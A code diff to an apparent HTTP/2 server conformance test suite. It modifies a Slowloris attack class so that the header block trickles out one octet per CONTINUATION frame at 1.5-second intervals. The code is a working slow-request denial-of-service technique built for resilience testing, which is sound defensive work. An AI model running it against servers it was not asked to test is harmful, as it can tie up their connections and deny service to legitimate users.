@@ -5,6 +5,7 @@ import dev.gannet.conformance.gauntlet.wire.Frames;
 import dev.gannet.conformance.gauntlet.wire.RawConnection;
 import dev.gannet.conformance.gauntlet.wire.Requests;
 import java.io.IOException;
+import java.util.Arrays;
 
 /** A beginning that takes for ever: an octet now and then. */
 enum Slowloris implements Attack {
@@ -20,6 +21,7 @@ enum Slowloris implements Attack {
 
   private static final int SETTLING_MILLIS = 200; // for the server's settings to be acknowledged
   private static final int PAUSE_MILLIS = 1_500;
+  private static final int MOST_FRAMES = 8; // of a block: more are a flood, and another attack
 
   private final String name;
   private final String cve;
@@ -62,10 +64,14 @@ enum Slowloris implements Attack {
     front.pauseMillis(SETTLING_MILLIS);
     connection.flush();
     connection.acknowledgeNothing();
-    connection.send(Frames.headers(1, Frames.NONE, block));
+    connection.send(Frames.headers(1, Frames.NONE, Arrays.copyOf(block, 1)));
     connection.flush();
-    while (front.goesOn(connection)) {
+    for (int i = 1; front.goesOn(connection); i++) {
       front.pauseMillis(PAUSE_MILLIS);
+      if (i < MOST_FRAMES) {
+        connection.send(Frames.continuation(1, Frames.NONE, Arrays.copyOfRange(block, i, i + 1)));
+        connection.flush();
+      }
     }
   }
 }
